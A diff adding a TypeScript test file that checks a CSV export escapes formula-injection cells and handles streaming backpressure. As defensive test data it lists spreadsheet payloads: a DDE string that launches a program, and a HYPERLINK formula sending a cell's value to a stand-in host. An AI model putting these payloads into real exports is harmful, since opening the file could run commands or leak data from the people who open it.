@@ -1,0 +1,83 @@
+import { PassThrough } from 'node:stream';
+import { csvLine, neutralise, writeCsv } from '../../../mock/engine/file';
+import { parseCsv } from './support';
+
+const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b'];
+const HIDERS = ['', ' ', '   ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u200e'];
+const dangerous = [
+  ...SIGNS.flatMap((sign) => HIDERS.map((hider) => `${hider}${sign}1+1`)),
+  '\tcmd',
+  '\rcmd',
+  '\u0000cmd',
+  '\n=1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x.invalid?a="&A1,"y")',
+  '@SUM(1+1)*cmd',
+  '-2+3+cmd',
+  '+66 555 0100',
+  '-12.50',
+];
+const harmless = [
+  '',
+  'Lotus Games Co.',
+  '12.50',
+  '0',
+  'a=b',
+  'x-y',
+  'a@b',
+  'W20261120063102000417',
+  '漢字',
+  "it's",
+  '1,250.00',
+  'a "quote"',
+  'two\r\nlines',
+  ' padded ',
+];
+
+describe('cells of an export', () => {
+  it('are a table worth the name', () => {
+    expect(dangerous.length).toBeGreaterThanOrEqual(60);
+  });
+  it.each(dangerous.map((cell) => [JSON.stringify(cell), cell]))('%s is no formula', (_shown, cell) => {
+    expect(neutralise(cell)).toBe(`'${cell}`);
+    expect(parseCsv(csvLine([cell, 'x']))).toEqual([[`'${cell}`, 'x']]);
+  });
+  it.each(harmless.map((cell) => [JSON.stringify(cell), cell]))('%s stays as it is', (_shown, cell) => {
+    expect(parseCsv(csvLine([cell, 'x']))).toEqual([[cell, 'x']]);
+  });
+  it('of numeric columns stay numbers, but only true numbers', () => {
+    expect(csvLine(['-12.50', '-12.50', '-1+1'], [true, false, true])).toBe("-12.50,'-12.50,'-1+1\r\n");
+  });
+});
+
+describe('a streamed export', () => {
+  const sheet = (rows: Iterable<string[]>) => ({ head: ['head'], titles: ['a'], isNumeric: [false], rows, tail: [['Total']] });
+
+  it('waits for a slow reader instead of filling memory', async () => {
+    let made = 0;
+    function* rows() {
+      for (; made < 100_000; made++) yield ['x'.repeat(100)];
+    }
+    const out = new PassThrough({ highWaterMark: 16_384 });
+    const writing = writeCsv(out, sheet(rows()));
+    await new Promise((resolve) => setTimeout(resolve, 30));
+    expect(made).toBeLessThan(2000);
+    out.resume();
+    await writing;
+    expect(made).toBe(100_000);
+  });
+
+  it('stops when the reader is gone', async () => {
+    let made = 0;
+    function* rows() {
+      for (; made < 100_000; made++) yield ['x'.repeat(100)];
+    }
+    const out = new PassThrough({ highWaterMark: 16_384 });
+    out.on('error', () => undefined);
+    const writing = writeCsv(out, sheet(rows()));
+    await new Promise((resolve) => setTimeout(resolve, 10));
+    out.destroy();
+    await writing;
+    expect(made).toBeLessThan(5000);
+  });
+});
